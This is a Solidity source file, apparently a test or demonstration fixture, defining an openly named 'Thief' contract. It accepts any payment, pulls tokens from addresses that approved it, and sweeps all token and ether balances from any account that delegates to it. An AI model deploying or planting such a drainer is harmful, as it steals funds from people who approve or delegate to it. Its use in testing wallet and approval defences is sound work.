// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import "./Token.sol";

/// What a thief places where somebody pays to, approves or hands the account over. It takes any call and keeps its value.
contract Thief {
    fallback() external payable {}

    receive() external payable {}

    /// Takes from who has approved this address.
    function pull(address token, address from, address to, uint256 amount) external {
        Token(token).transferFrom(from, to, amount);
    }

    /// Empties the account that runs this code.
    function sweep(address token, address payable to) external {
        Token(token).transfer(to, Token(token).balanceOf(address(this)));
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok);
    }
}
